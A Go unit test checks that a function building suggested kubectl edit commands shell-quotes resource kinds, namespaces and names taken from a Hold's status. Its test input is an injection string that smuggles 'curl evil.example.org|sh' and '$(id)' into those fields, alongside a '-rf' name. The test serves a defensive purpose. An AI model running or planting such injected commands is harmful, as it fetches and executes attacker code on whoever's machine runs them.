package action

import (
	"strings"
	"testing"
)

// TestRecordsAreNoCommands: the texts of a record, which whoever may write the status of a Hold chooses, stay words of the command that a person
// pastes into a shell.
func TestRecordsAreNoCommands(t *testing.T) {
	t.Parallel()
	const evil = "web; curl evil.example.org|sh #$(id)'"
	got := strings.Join(describeGateChanges([]Change{
		{APIVersion: "v1", Kind: evil, Namespace: evil, Name: evil, Path: "spec.selector"},
		{APIVersion: "apps/v1", Kind: "Deployment", Name: "-rf", Path: "spec.replicas", Was: "2"},
		{APIVersion: "v1", Kind: "Service", Namespace: "shop", Name: "web", Path: "spec.selector.track", Was: `"a"`},
	}), "\n")
	const quoted = `'web; curl evil.example.org|sh #$(id)'\'''`
	want := "remove spec.selector (kubectl edit -n " + quoted + " " + quoted + " " + quoted + ")\n" +
		"set spec.replicas to 2 (kubectl edit deployment.apps '-rf')\n" +
		`set spec.selector.track to "a" (kubectl edit -n shop service web)`
	if got != want {
		t.Errorf("got:\n%s\nwant:\n%s", got, want)
	}
}
